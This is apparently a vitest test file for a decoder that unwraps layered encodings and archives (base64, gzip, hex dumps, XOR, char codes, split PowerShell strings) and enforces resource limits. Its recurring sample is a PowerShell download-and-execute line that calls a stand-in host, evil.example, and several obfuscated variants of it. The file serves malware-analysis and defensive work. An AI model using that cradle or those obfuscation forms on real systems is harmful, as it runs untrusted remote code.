import { createHash } from 'node:crypto';
import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import decodeLayers from '../../../functions/decode/layers.ts';
import { noteTxt, packed, runSh } from '../../support/archive-samples.ts';
import { tarOf, zipOf } from '../../support/archives.ts';
import { runIn } from '../../support/run.ts';

const base64 = (content: string | Buffer): string => Buffer.from(content).toString('base64');
const decode = async (value: string, options: object = {}) => runIn(decodeLayers, { value, ...options });
const script = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')";
/** Text that hardly packs. */
const noise = Array.from({ length: 400 }, (_, number) => createHash('sha256').update(String(number)).digest('hex')).join(' ');

describe('decode-layers', () => {
  it('gives the way in for everything it finds', async () => {
    const { rows } = await decode(`x ${base64(zipOf({ 'docs/a.txt': 'first file, to be deflated', 'b.tar': tarOf({ 'c.ps1': script }).toString('latin1') }))}`);
    expect(rows.map(({ Id, ParentId, Layers, Name, FileType }) => [Id, ParentId, (Layers as string[]).join('>'), Name, FileType])).toEqual([
      ['1', '', 'base64', null, 'zip'],
      ['1.1', '1', 'base64>zip', 'docs/a.txt', 'text'],
      ['1.2', '1', 'base64>zip', 'b.tar', 'tar'],
      ['1.2.1', '1.2', 'base64>zip>tar', 'c.ps1', 'text'],
    ]);
  });

  it('hashes and types what it finds, and gives the bytes on request', async () => {
    const { rows } = await decode(Buffer.from('\x7fELF\x02\x01\x01\0\xff\xfe\xfd\xfc\xfb', 'latin1').toString('hex'), { encoding: 'text', showBytes: true });
    expect(rows).toMatchObject([
      {
        Layers: ['hex'],
        FileType: 'elf',
        MediaType: 'application/x-elf',
        Text: null,
        Size: 13,
        Bytes: 'f0VMRgIBAQD//v38+w==',
        MD5: createHash('md5').update(Buffer.from('f0VMRgIBAQD//v38+w==', 'base64')).digest('hex'),
      },
    ]);
  });

  it('opens files given in base64', async () => {
    expect((await decode(base64(gzipSync(script)), { encoding: 'base64' })).rows).toMatchObject([{ Id: '1', Layers: ['gzip'], Text: script }]);
  });

  const inBase32 = 'IEX language over two lines, in small letters';
  const dump = Buffer.from(`MZ\x90\0${'\0'.repeat(60)}${script}`, 'latin1');
  const dumpLines = (digits: (place: number) => string) =>
    Array.from({ length: Math.ceil(dump.length / 16) }, (_, line) => {
      const bytes = dump.subarray(16 * line, 16 * line + 16);
      return `${digits(16 * line)}${bytes.toString('hex').replace(/(..)/g, '$1 ').padEnd(50)}${bytes.toString('latin1').replace(/[^ -~]/g, '.')}`;
    }).join('\r\n');

  it.each([
    ['certutil', `-----BEGIN CERTIFICATE-----\r\n${base64(script).replace(/(.{64})/g, '$1\r\n')}\r\n-----END CERTIFICATE-----`, script],
    ['base64', `note:\n\n${base64(script + script).replace(/(.{76})/g, '$1\n')}`, script + script],
    ['hex-dump', dumpLines((place) => `${place.toString(16).padStart(8, '0')}: `), undefined],
    ['hex-dump', dumpLines((place) => `${place.toString(16).padStart(4, '0')}  `), undefined],
    ['hex', Buffer.from(script).toString('hex').replace(/(.{64})/g, '$1\n'), script],
    ['base32', 'JFCVQIDMMFXGO5LBM5SSA33WMVZCA5DXN4QGY2LOMVZSYIDJNYQHG3LBNRWCA3DFOR2GK4TT'.replace(/(.{40})/, '$1\n'), inBase32],
    ['base32', 'JFCVQIDMMFXGO5LBM5SSA33WMVZCA5DXN4QGY2LOMVZSYIDJNYQHG3LBNRWCA3DFOR2GK4TT'.toLowerCase(), inBase32],
    ['html', 'powershell -c "&#73&#69&#88"', 'powershell -c "IEX"'],
    ['char-codes', Array.from(script, (sign) => sign.charCodeAt(0)).join('~'), script],
    ['char-codes', Array.from(script, (sign) => sign.charCodeAt(0)).join(' '), script],
    ['char-codes', Array.from(script, (sign) => `\\${sign.charCodeAt(0).toString(8)}`).join(''), script],
    ['char-codes', Array.from(script, (sign) => sign.charCodeAt(0).toString(2).padStart(8, '0')).join(' '), script],
    ['joined-strings', `("New" + '-Ob' + "ject")`, '("New-Object")'],
    ['joined-strings', `x ("I",'E',"X") -join ''`, `x 'IEX'`],
    ['joined-strings', `('IzzEzzX').Replace('zz','')`, `('IEX')`],
    ['joined-strings', `"IzzEX" -creplace 'zz',''`, `"IEX"`],
  ])('reads %s in the form %#', async (layer, value, text) => {
    const { rows } = await decode(value);
    expect(rows[0]).toMatchObject({ Layers: [layer], Text: text ?? null, ...(text === undefined && { FileType: 'exe', Size: dump.length }) });
    expect(rows.filter(({ ParentId }) => ParentId === '')).toHaveLength(1);
  });

  const long = `${script} # ????>>>>~~~~ ${script}`;
  const lines = (run: string, width: number) => run.match(new RegExp(`.{1,${width}}`, 'g'))!;
  const wraps: [string, string][] = [
    ['line ends', '\n'],
    ['line ends of Windows', '\r\n'],
    ['escaped line ends', '\\n'],
    ['escaped line ends of Windows', '\\r\\n'],
    ['line ends escaped twice', '\\\\n'],
    ['escapes by number', '\\u000d\\u000a'],
    ['soft ends of quoted-printable', '=\r\n'],
    ['entities', '&#13;\n'],
    ['indents', '\n      '],
    ['continued lines', '\\\n'],
    ['strings of Visual Basic', '" & _\r\n    "'],
    ['strings of PowerShell', "' + `\n  '"],
    ['assignments', '"\n  $x += "'],
    ['lists', '",\n  "'],
  ];

  it.each(wraps.flatMap((wrap) => [64, 75, 76].map((width) => [...wrap, width] as const)))('reads base64 of both alphabets in lines that are parted by %s (%j, %i)', async (_, gap, width) => {
    for (const letters of ['base64', 'base64url'] as const) {
      const run = Buffer.from(long).toString(letters);
      const { rows } = await decode(`{"a": "${lines(run, width).join(gap)}", "b": 1}`);
      expect(rows.filter(({ Text }) => Text === long)).toMatchObject([{ Layers: [letters], Offset: 7 }]);
      expect(rows.map(({ Layers }) => (Layers as string[])[0]).filter((layer) => layer?.startsWith('base64'))).toEqual([letters]);
    }
  });

  it.each([
    ['with padding', Buffer.from(`${long}!`).toString('base64url').padEnd(4 * Math.ceil((long.length + 1) / 3), '=')],
    ['without', Buffer.from(`${long}!`).toString('base64url')],
    ['behind an escape', `\\n${base64(`${long}!`)}\\n`],
    ['behind a command', `s = "cmd /c x ${lines(base64(`${long}!`), 50).join('"\ns = s & "')}"`],
    ['in PEM of one line', `-----BEGIN A-----\\n${lines(base64(`${long}!`), 64).join('\\n')}\\n-----END A-----`],
  ])('reads base64 %s', async (_, text) => {
    expect((await decode(`x=${text}`)).rows.map(({ Text }) => Text)).toContain(`${long}!`);
  });

  it('reads each of several padded lines by itself', async () => {
    const notes = ['first', 'other', 'third'].map((word) => `${word} ${script.slice(0, 25)}!`);
    expect((await decode(`${notes.map(base64).join('\n')}\n`)).rows.map(({ Text }) => Text)).toEqual(notes);
  });

  it('reads quoted-printable, and takes the padding of base64 for none', async () => {
    const mail = `<a href=3D"http://evil.example/=\r\na">Gr=C3=BC=C3=9Fe</a> ${lines(base64(long).replaceAll('=', '=3D'), 60).join('=\n')}`;
    const { rows } = await decode(mail);
    expect(rows[0]).toMatchObject({ Layers: ['base64'], Text: long });
    expect(rows[1]!['Text']).toMatch(/^<a href="http:\/\/evil.example\/a">Grüße/);
    expect((await decode(`${base64('first note!')}\nid=20 next`)).rows.map(({ Layers }) => Layers)).not.toContainEqual(['quoted-printable']);
  });

  it('finds a key also where what it hides is text on both sides', async () => {
    const under = Buffer.from(Buffer.from(script).map((byte) => byte ^ 3));
    expect((await decode(base64(under))).rows.map(({ Layers, Text }) => [Layers, Text])).toContainEqual([['base64', 'xor-0x03'], script]);
  });

  it('tries keys that the caller names', async () => {
    const under = Buffer.from(Buffer.from('just a note, nothing that tells').map((byte) => byte ^ 0x17));
    expect((await decode(base64(under), { encoding: 'base64' })).rows).toEqual([]);
    const readable = base64(Buffer.from(Buffer.from('hello, this is only a note').map((byte) => byte ^ 5)));
    expect((await decode(readable, { xorKeys: [5] })).rows.slice(0, 2)).toMatchObject([
      { Layers: ['base64'] },
      { Layers: ['base64', 'xor-0x05'], Text: 'hello, this is only a note' },
    ]);
    expect((await decode(base64(under), { encoding: 'base64', xorKeys: [0x80, 0x17] })).rows).toMatchObject([
      { Layers: ['xor-0x17'], Text: 'just a note, nothing that tells' },
    ]);
  });

  it.each([
    ['gzip', gzipSync(script + script + noise)],
    ['zlib', deflateSync(script + script + noise)],
    ['deflate', deflateRawSync(script + script + noise)],
  ])('keeps the beginning of %s that is cut off, and says so', async (layer, whole) => {
    const { rows, problems } = await decode(`x ${base64(whole.subarray(0, whole.length / 2))}`);
    expect(rows.find(({ Layers }) => (Layers as string[]).at(-1) === layer)!['Text']).toContain(script);
    expect(problems.map(({ code }) => code)).toEqual(['damaged']);
  });

  it.each([deflateSync, deflateRawSync])('says that what has no name grows too far (%#)', async (pack) => {
    expect((await decode(base64(pack(Buffer.alloc(20_000_000))))).problems.map(({ code }) => code)).toEqual(['expansion-limit']);
  });

  it('opens encrypted archives under passwords, and never shows one', async () => {
    const given = base64(packed.zipAes);
    const usual = await decode(given, { encoding: 'base64' });
    expect(usual.rows.map(({ Name, Text }) => [Name, Text])).toEqual([
      ['docs/note.txt', noteTxt],
      ['run.sh', runSh],
    ]);
    const wrong = await decode(given, { encoding: 'base64', passwords: ['s3cret-guess'] });
    expect([wrong.rows, wrong.problems.map(({ code }) => code)]).toEqual([[], ['encrypted', 'encrypted']]);
    expect(JSON.stringify([usual, wrong])).not.toMatch(/infected|s3cret-guess/);
    await expect(decode(given, { passwords: ['s3cret-guess'.repeat(30)] })).rejects.toThrow(expect.not.stringContaining('s3cret') as string);
  });

  it.each([
    ['layers', base64(gzipSync(base64(gzipSync(base64(gzipSync(script)))))), { maxDepth: 2 }, 'depth-limit'],
    ['items', Array.from({ length: 9 }, (_, number) => base64(`${number} ${script}`)).join(' '), { maxItems: 3 }, 'item-limit'],
    ['bytes', base64(gzipSync(Buffer.alloc(2_000_000, 'a b c '))), { maxBytes: 10_000 }, 'byte-limit'],
    ['growth', base64(gzipSync(Buffer.alloc(20_000_000))), {}, 'expansion-limit'],
  ])('bounds %s, and says so', async (_, value, options, code) => {
    expect((await decode(value, options)).problems.map((problem) => problem.code)).toContain(code);
  });

  it.each([
    'A',
    '%41',
    '\\x41',
    '65,',
    '[char]65+',
    "'a'+",
    '&#65;',
    '{0}',
    "'a',",
    'eyJ',
    '^a',
    '0x41,',
    'A2',
    '-e ',
    '\\u0041',
    '"{0}"-f"',
    'chr(',
    'AAAA\n',
    '4a4a4a4a4a4a4a4a\n',
    'aaaaaaaaaaaaaaaa\n',
    '00000000: 41 \n',
    '-----BEGIN A-----AAAA',
    '73~',
    '\\111',
    '01000001 ',
    "-join''",
    "('a',-join''",
    'AAAAAAAAAAAAAAAAAAAA\\n',
    `${'A'.repeat(20)}\n    ${'A'.repeat(21)}\n  `,
    `${'A'.repeat(20)}\n    ${'A'.repeat(20)}\n    ${'A'.repeat(40)}\n  `,
    '"AAAAAAAAAAAAAAAAAAAA"\n',
    '=\n=41',
    'aaaaaaaaaaaaaaaaaaaa-',
    "'a'.replace('a','b')",
    '&#65',
  ])('takes linear time for %j repeated', async (shape) => {
    const time = async (length: number) => {
      const started = performance.now();
      await decode(shape.repeat(length / shape.length));
      return performance.now() - started;
    };
    await time(10_000);
    const small = Math.min(await time(40_000), await time(40_000));
    expect(Math.min(await time(160_000), await time(160_000))).toBeLessThan(Math.max(12 * small, 300));
  });

  it('looks for base64 in texts that are too long for the rest, and says so', async () => {
    const text = Buffer.from('a line of some text. '.repeat(200_000)).toString('base64');
    const { rows, problems } = await runIn(decodeLayers, { value: text, textLength: 10 });
    expect(rows).toMatchObject([{ Layers: ['base64'], Size: 4_200_000 }]);
    expect(problems).toMatchObject([{ code: 'long-text', about: 'text 0' }, { code: 'long-text', about: 'text 0, item 1' }]);
  });
});
